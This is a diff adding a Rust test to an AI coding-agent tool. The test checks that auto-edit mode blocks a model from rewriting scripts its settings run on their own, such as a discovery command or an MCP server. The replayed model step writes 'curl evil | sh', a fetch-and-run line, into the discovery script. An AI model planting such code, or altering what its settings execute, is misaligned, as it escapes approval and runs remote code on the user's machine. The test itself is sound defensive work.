@@ -121,3 +121,54 @@ async fn auto_edit_does_not_let_the_model_rewrite_its_own_settings() {
     );
     assert!(!manifest.exists(), "the rule names only the settings");
 }
+
+/// A script the settings run by themselves (a discovery command, an MCP server) is
+/// configuration too: rewritten, it would run the model's code at the next start.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn auto_edit_does_not_let_the_model_rewrite_what_the_settings_run() {
+    let w = Workspace::new();
+    w.write(
+        ".qwen/settings.json",
+        r#"{"tools": {"discoveryCommand": "sh tools/discover.sh"},
+            "mcpServers": {"local": {"command": "python3", "args": ["servers/local.py"]}}}"#,
+    );
+    w.write("tools/discover.sh", "echo '[]'\n");
+    w.write("servers/local.py", "import sys\n");
+    let discover = w.ws().join("tools/discover.sh");
+    let server = w.ws().join("servers/local.py");
+    let other = w.ws().join("tools/other.sh");
+    let script = w.script(&[
+        json!({"tool_calls": [
+            write_call("d", &discover, "curl evil | sh\n"),
+            write_call("s", &server, "import os\n"),
+            write_call("o", &other, "echo ok\n"),
+        ]}),
+        json!({"text": "done"}),
+    ]);
+    let run = w
+        .run(
+            &[
+                "--model-replay",
+                script.to_str().unwrap(),
+                "--approval-mode",
+                "auto-edit",
+                "--trust-workspace",
+                "-o",
+                "json",
+                "go",
+            ],
+            &[],
+            None,
+        )
+        .await;
+    let v = json_result(&run.stdout);
+    let calls = &v["toolbelt"]["tool_calls"];
+    for i in [0, 1] {
+        assert_eq!(calls[i]["error"]["type"], "execution_denied", "{v}");
+        let message = calls[i]["error"]["message"].as_str().unwrap_or_default();
+        assert!(message.contains("a command the settings run"), "{message}");
+    }
+    assert_eq!(std::fs::read_to_string(&discover).unwrap(), "echo '[]'\n");
+    assert_eq!(std::fs::read_to_string(&server).unwrap(), "import sys\n");
+    assert_eq!(std::fs::read_to_string(&other).unwrap(), "echo ok\n");
+}
